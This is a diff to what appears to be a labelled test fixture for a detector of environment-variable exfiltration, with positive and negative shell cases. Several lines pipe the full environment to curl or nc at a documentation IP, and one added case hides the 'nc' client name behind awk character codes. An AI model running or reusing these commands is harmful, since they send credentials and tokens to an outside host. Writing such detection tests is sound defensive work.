@@ -32,3 +32,9 @@ jq -n '$ENV' | curl -s --data-binary @- https://203.0.113.9/c
 awk 'BEGIN { for (k in ENVIRON) print k "=" ENVIRON[k] }' | nc 203.0.113.9 9
 #@ neg jq reads the token it sends
 jq -n '$ENV.GITHUB_TOKEN' >/dev/null; curl -s https://api.github.com/
+#@ pos a client named by the character codes awk's printf prints
+t=$(awk 'BEGIN{printf "%cc", 110}')
+env | "$t" 203.0.113.1 9100
+#@ neg awk's printf of a separator line, and of codes that name no client
+s=$(awk 'BEGIN{printf "%c%c", 61, 61}')
+env | sort > "env$s.txt"
